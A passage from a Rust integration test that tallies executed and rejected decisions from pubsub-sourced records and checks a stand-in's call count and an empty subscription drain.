        *m.entry(r["decision"].as_str().unwrap().to_owned())
            .or_default() += 1;
        m
    });
    assert_eq!(
        decisions,
        BTreeMap::from([("executed".to_owned(), 3), ("rejected".to_owned(), 2)]),
        "{stderr}"
    );
    assert!(
        records
            .iter()
            .all(|r| r["source"].as_str().unwrap().starts_with("pubsub:"))
    );
    assert_eq!(standin.calls().len(), 3);
    assert!(
        env.drain(&sub, Duration::from_secs(3)).await.is_empty(),
        "{stderr}"
    );
}
